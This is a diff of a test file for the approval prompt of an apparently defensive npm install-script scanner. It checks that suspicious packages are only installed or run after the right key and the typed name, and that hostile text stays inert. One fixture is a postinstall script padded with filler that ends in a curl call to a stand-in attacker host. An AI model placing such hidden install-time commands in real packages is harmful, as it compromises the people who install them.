@@ -57,7 +57,8 @@ test('a suspicious package is shown with way, evidence and command', async () =>
       '    | fetch(url)',
       '  wants to run:',
       '    postinstall: node install.js',
-      'Type its name to install it anyway; its scripts stay stripped. Enter aborts: ',
+      '  recommended: abort; what was found is rare in honest packages',
+      '[Enter] abort  [o] allow once  [a] approve (pinned)  [s] install stripped: ',
     ].join('\n'),
   )
 })
@@ -68,62 +69,78 @@ test('Enter aborts at once', async () => {
   assert.is(io.left(), 1)
 })
 
-test('the name installs it without scripts', async () => {
-  assert.equal(await decided([odd()], fake('odd', '')), ['strip'])
-  assert.equal(await decided([odd()], fake('  odd ', '')), ['strip'])
+test('each answer takes its key and the name', async () => {
+  assert.equal(await decided([odd()], fake('s', 'odd')), ['strip'])
+  assert.equal(await decided([odd()], fake(' S ', '  odd ')), ['strip'])
+  assert.equal(await decided([odd()], fake('o', 'odd')), ['once'])
+  assert.equal(await decided([odd()], fake('a', 'odd')), ['approve'])
 })
 
-test('a package without scripts is asked once', async () => {
-  const io = fake('odd', 'run')
+test('the name alone, or the key alone, lets nothing in', async () => {
+  assert.equal(await decided([odd()], fake('odd', 'odd')), ['abort'])
+  for (const key of ['s', 'o', 'a']) {
+    assert.equal(await decided([odd()], fake(key, '')), ['abort'])
+    assert.equal(await decided([odd()], fake(key, 'y', 'yes')), ['abort'])
+    assert.equal(await decided([odd()], fake(key, 'ODD', 'odd@1.0.0')), ['abort'])
+  }
+  assert.equal(await decided([odd()], fake('s', 'od', 'odd')), ['strip'])
+})
+
+test('the name is asked for in words that say what follows', async () => {
+  const io = fake('a', 'odd')
+  await ask([odd()], io)
+  assert.match(
+    io.said(),
+    'It has a high finding. Type its name to run its scripts and record a pinned approval;\nEnter aborts: ',
+  )
+})
+
+test('a package without scripts can only be installed', async () => {
+  const io = fake('s', 'odd')
   assert.equal(await decided([odd('odd@1.0.0', { scripts: {} })], io), ['strip'])
-  assert.is(io.left(), 1)
+  assert.match(io.said(), '[Enter] abort  [s] install: ')
+  assert.equal(await decided([odd('odd@1.0.0', { scripts: {} })], fake('a', 'o')), ['abort'])
 })
 
-test('anything but the name is asked again once, then aborts', async () => {
-  assert.equal(await decided([odd()], fake('y', 'odd', '')), ['strip'])
-  const io = fake('y', 'yes', 'odd')
+test('anything that is no key is asked again once, then aborts', async () => {
+  assert.equal(await decided([odd()], fake('y', 's', 'odd')), ['strip'])
+  const io = fake('y', 'yes', 's')
   assert.equal(await decided([odd()], io), ['abort'])
   assert.is(io.left(), 1)
-  assert.equal(await decided([odd()], fake('ODD', 'odd@1.0.0')), ['abort'])
-})
-
-test('scripts run only on a second answer', async () => {
-  assert.equal(await decided([odd()], fake('odd', 'run')), ['once'])
-  assert.equal(await decided([odd()], fake('odd', 'approve')), ['approve'])
-  assert.equal(await decided([odd()], fake('odd', 'y', 'odd')), ['strip'])
 })
 
 test('scripts of unknown bytes are never offered', async () => {
   const { pin: _, ...unpinned } = odd()
-  const io = fake('odd', 'run')
+  assert.equal(await decided([unpinned], fake('a', 'o')), ['abort'])
+  const io = fake('s', 'odd', 'o')
   assert.equal(await decided([unpinned], io), ['strip'])
   assert.is(io.left(), 1)
 })
 
 test('scripts too long to read are never offered', async () => {
   const long = { postinstall: `${'x '.repeat(4000)}; curl evil.invalid` }
-  const io = fake('odd', 'run')
-  assert.equal(await decided([odd('odd@1.0.0', { scripts: long })], io), ['strip'])
+  const io = fake('a', 'o')
+  assert.equal(await decided([odd('odd@1.0.0', { scripts: long })], io), ['abort'])
   assert.match(io.said(), 'too long to be reviewed here')
-  assert.equal(await decided([scripted('a@1.0.0', { scripts: long })], fake('r', 'y')), ['strip'])
+  assert.equal(await decided([scripted('a@1.0.0', { scripts: long })], fake('r', 'a', 'o')), ['strip'])
   assert.equal(await decided([scripted('a@1.0.0', { scripts: long })], fake('a')), ['strip'])
 })
 
 test('a name of look-alike letters is typed as it is shown', async () => {
   const name = 'l\u043edash'
-  assert.equal(await decided([odd(`${name}@1.0.0`)], fake(name, name)), ['abort'])
-  const io = fake('l\\u043edash', '')
+  assert.equal(await decided([odd(`${name}@1.0.0`)], fake('s', name, name)), ['abort'])
+  const io = fake('s', 'l\\u043edash')
   assert.equal(await decided([odd(`${name}@1.0.0`)], io), ['strip'])
   assert.match(io.said(), 'SUSPICIOUS 1 of 1: l\\u043edash@1.0.0')
 })
 
 test('an empty name cannot be typed', async () => {
-  assert.equal(await decided([odd('@1.0.0')], fake('')), ['abort'])
-  assert.equal(await decided([odd(' @1.0.0')], fake(' ', ' ')), ['abort'])
+  assert.equal(await decided([odd('@1.0.0')], fake('s', '')), ['abort'])
+  assert.equal(await decided([odd(' @1.0.0')], fake('s', ' ', ' ')), ['abort'])
 })
 
 test('an abort ends the questions and leaves no suspicious one open', async () => {
-  const io = fake('one', '', '', 'a')
+  const io = fake('s', 'one', '', 'a')
   assert.equal(await decided([odd('one@1.0.0'), odd('two@1.0.0'), odd('three@1.0.0'), scripted('q@1.0.0')], io), [
     'abort',
     'abort',
@@ -144,7 +161,6 @@ test('where nothing is to be decided nobody is asked', async () => {
   const rest = [
     judged('a@1.0.0'),
     judged('unread@1.0.0', { verdict: 'strip' }),
-    scripted('gap@1.0.0', { gaps: [{ about: 'published', why: 'no answer' }] }),
     scripted('high@1.0.0', { findings: [high] }),
     scripted('done@1.0.0', { verdict: 'allow', approved: true }),
   ]
@@ -169,8 +185,8 @@ test('quiet scripts are one question', async () => {
       '  a@1.0.0 postinstall: node install.js',
       '  b@2.0.0 postinstall: node install.js',
       '    LOW age/too-young: a day old',
-      '[Enter] leave stripped  [a] approve all shown (pinned)  [r] review one by one',
-      '[q] abort: ',
+      '[Enter] leave stripped  [a] approve all shown (pinned)',
+      '[o] allow all shown once  [r] review one by one  [q] abort: ',
     ].join('\n'),
   )
 })
@@ -195,22 +211,116 @@ test('an answer that is not understood is asked again once, then leaves all stri
   assert.equal(await decided([scripted('a@1.0.0')], fake('all', 'a')), ['approve'])
 })
 
-test('a review asks for each, and only y approves', async () => {
-  const four = ['a', 'b', 'c', 'd'].map((name) => scripted(`${name}@1.0.0`))
-  const io = fake('r', 'y', '', 'n', 'x', 'x')
-  assert.equal(await decided(four, io), ['approve', 'strip', 'strip', 'strip'])
-  assert.match(io.said(), 'REVIEW 4 of 4: d@1.0.0')
+test('o allows all shown once, which is no approval', async () => {
+  assert.equal(await decided([scripted('a@1.0.0'), scripted('b@1.0.0')], fake('o')), ['once', 'once'])
+})
+
+test('a review asks for each, and only a and o let scripts run', async () => {
+  const five = ['a', 'b', 'c', 'd', 'e'].map((name) => scripted(`${name}@1.0.0`))
+  const io = fake('r', 'a', '', 'o', 'y', 'x', '')
+  assert.equal(await decided(five, io), ['approve', 'strip', 'once', 'strip', 'strip'])
+  assert.match(io.said(), 'REVIEW 5 of 5: e@1.0.0')
+})
+
+test('l leaves the rest stripped', async () => {
+  const three = ['a', 'b', 'c'].map((name) => scripted(`${name}@1.0.0`))
+  assert.equal(await decided(three, fake('r', 'a', 'l')), ['approve', 'strip', 'strip'])
+})
+
+test('what is not recommended is asked one by one after the group', async () => {
+  const medium = finding({ severity: 'medium', rule: 'people/new-publisher', message: 'published by another' })
+  const all = [
+    scripted('plain@1.0.0'),
+    scripted('noted@1.0.0', { findings: [medium] }),
+    scripted('gap@1.0.0', { gaps: [{ about: 'reach', why: 'it runs what it downloads' }] }),
+  ]
+  const io = fake('a', 'o', '')
+  assert.equal(await decided(all, io), ['approve', 'once', 'strip'])
+  assert.match(io.said(), '1 package wants to run install scripts; none is suspicious:\n  plain@1.0.0')
+  assert.match(io.said(), 'REVIEW 1 of 2: noted@1.0.0')
+  assert.match(io.said(), 'recommended: leave it stripped; what was found is worth a look')
+  assert.match(io.said(), 'recommended: leave it stripped; not all that its scripts do is known')
+})
+
+const background = {
+  before: ['0.9.0'],
+  approved: { version: '0.9.0', by: 'ana', at: '2026-10-02T10:00:00.000Z', sameScripts: true, sameFiles: false },
+  earlier: { version: '0.9.0', published: '2026-01-02T10:00:00.000Z' },
+}
+
+test('a card says what came before', async () => {
+  const io = fake('')
+  await ask([odd()], io, { background: () => background })
+  assert.match(
+    io.said(),
+    [
+      '  in the lockfile before: 0.9.0',
+      '  approved before: 0.9.0 by ana on 2026-10-02; since then its commands are the',
+      '    same, what they reach is changed',
+      '  an earlier version of which nothing bad is known: 0.9.0 of 2026-01-02',
+      '  recommended: abort; what was found is rare in honest packages; 0.9.0 is',
+      '    older and nothing bad is known of it',
+    ].join('\n'),
+  )
+})
+
+const files = (...lines: string[]) =>
+  ({ state: 'known', value: [{ path: 'install.js', note: 'reached by install', lines }] }) as const
+
+test('the code is shown in pages, and the question comes again', async () => {
+  const lines = Array.from({ length: 30 }, (_, index) => `line ${index + 1}`)
+  const io = fake('c', '', 'a', 'odd')
+  assert.is((await ask([odd()], io, { code: async () => files(...lines) })).size, 1)
+  assert.match(io.said(), '=== install.js (reached by install)\n    1 | line 1\n')
+  assert.match(io.said(), '[Enter] more (12 lines)  [b] back: ')
+  assert.match(io.said(), '   30 | line 30\n[Enter] abort')
+  assert.match(io.said(), '[c] show the code\n[s] install stripped: ')
+})
+
+test('looking at the code decides nothing', async () => {
+  const aids = { code: async () => files('x'), difference: async () => files('-x', '+y') }
+  assert.equal([...(await ask([odd()], fake('c', 'd', ''), aids)).values()], ['abort'])
+  assert.equal([...(await ask([odd()], fake('c'), aids)).values()], ['abort'])
+  assert.equal([...(await ask([scripted('a@1.0.0')], fake('r', 'd', ''), aids)).values()], ['strip'])
+})
+
+test('Ctrl-C on a page of code stops everything', async () => {
+  const long = Array.from({ length: 100 }, () => 'x')
+  const io = fake('c', '')
+  assert.equal(
+    [...(await ask([odd(), scripted('a@1.0.0')], io, { code: async () => files(...long) })).values()],
+    ['abort', 'abort'],
+  )
+})
+
+test('code that cannot be had says why', async () => {
+  const io = fake('c', '')
+  await ask([odd()], io, { code: async () => ({ state: 'unknown', why: 'no \u001b[2Janswer' }) })
+  assert.match(io.said(), 'It cannot be shown: no \\u001b[2Janswer\n')
+})
+
+test('code hides nothing: blanks stay, long lines go on below, what acts is written out', async () => {
+  const io = fake('c', 'b', '')
+  await ask([odd()], io, { code: async () => files(`a${' '.repeat(100)}b\u202ec`, '\u8a9e'.repeat(60)) })
+  const shown = io
+    .said()
+    .split('\n')
+    .filter((line) => / \| /u.test(line) && !line.includes('fetch'))
+  assert.is(shown[0], `    1 | a${' '.repeat(71)}`)
+  assert.is(shown[1], `      | ${' '.repeat(29)}b\\u202ec`)
+  assert.is(shown[2], `    2 | ${'\u8a9e'.repeat(36)}`)
+  assert.is(shown[3], `      | ${'\u8a9e'.repeat(24)}`)
 })
 
 test('q stops everything, whatever was answered before', async () => {
   const all = [odd(), scripted('a@1.0.0'), scripted('b@1.0.0')]
-  assert.equal(await decided(all, fake('odd', 'approve', 'q')), ['abort', 'abort', 'abort'])
-  assert.equal(await decided(all, fake('odd', 'approve', 'r', 'y', 'q')), ['abort', 'abort', 'abort'])
+  assert.equal(await decided(all, fake('a', 'odd', 'q')), ['abort', 'abort', 'abort'])
+  assert.equal(await decided(all, fake('a', 'odd', 'r', 'a', 'q')), ['abort', 'abort', 'abort'])
 })
 
 test('the end of input or Ctrl-C stops everything, at every question', async () => {
   const all = [odd(), scripted('a@1.0.0'), scripted('b@1.0.0')]
-  const answers = ['odd', 'approve', 'r', 'y', 'y']
+  const answers = ['a', 'odd', 'r', 'a', 'a']
   for (let count = 0; count < answers.length; count++) {
     assert.equal(await decided(all, fake(...answers.slice(0, count))), ['abort', 'abort', 'abort'], `after ${count}`)
   }
@@ -218,7 +328,7 @@ test('the end of input or Ctrl-C stops everything, at every question', async () 
 })
 
 test('input from before a question is thrown away before each', async () => {
-  const io = fake('x', 'odd', 'x', 'approve', 'x', 'r', 'x', 'y')
+  const io = fake('x', 'a', 'x', 'odd', 'x', 'r', 'x', 'a')
   await ask([odd(), scripted('a@1.0.0')], io)
   const order = io.events.join(' ')
   assert.is(order.split('read').length - 1, 8)
@@ -226,11 +336,11 @@ test('input from before a question is thrown away before each', async () => {
 })
 
 test('no answers but the right ones let a script run', async () => {
-  const word = fc.constantFrom('', 'a', 'y', 'r', 'n', 'q', 'odd', 'yes', 'ok', 'all', '\u001b[A')
+  const word = fc.constantFrom('', 'a', 's', 'o', 'y', 'r', 'n', 'q', 'odd', 'yes', 'ok', 'all', '\u001b[A')
   await fc.assert(
     fc.asyncProperty(fc.array(word, { maxLength: 8 }), async (answers) => {
       const [decision] = await decided([odd()], fake(...answers))
-      assert.ok(decision === 'abort' || (decision === 'strip' && answers.includes('odd')))
+      assert.ok(decision === 'abort' || (answers.includes('odd') && /[soa]/u.test(answers.join())))
     }),
   )
 })
@@ -239,8 +349,13 @@ test('hostile text cannot act on the terminal', async () => {
   await fc.assert(
     fc.asyncProperty(fc.string({ unit: 'binary' }), async (text) => {
       const evil = finding({ severity: 'high', message: text, file: text, excerpt: text })
-      const io = fake('', '')
-      await ask([odd(`${text}@1`, { findings: [evil], scripts: { [text]: text } })], io)
+      const io = fake('c', '', '')
+      const one = { version: text, by: text, at: text, sameScripts: true, sameFiles: true }
+      const shown = { state: 'known', value: [{ path: text, note: text, lines: [text] }] } as const
+      await ask([odd(`${text}@1`, { findings: [evil], scripts: { [text]: text } })], io, {
+        background: () => ({ before: [text], approved: one, earlier: { version: text, published: text } }),
+        code: async () => shown,
+      })
       const quiet = fake('r', '')
       await ask(
         [scripted(`${text}@1`, { findings: [{ ...evil, severity: 'low' }], scripts: { install: text } })],
